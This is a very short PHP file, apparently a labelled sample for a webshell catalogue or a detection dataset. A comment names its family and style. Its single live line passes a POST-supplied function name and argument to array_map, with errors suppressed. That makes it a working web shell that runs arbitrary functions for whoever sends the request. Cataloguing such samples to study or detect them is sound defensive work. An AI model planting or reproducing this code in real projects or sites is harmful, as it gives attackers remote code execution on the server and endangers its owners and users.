<?php
/* Family: webshell/callback
   Style: array_map dispatcher
   Trait: array_map with a callback name from POST over a request argument */
@array_map($_POST['fn'], array($_POST['arg']));
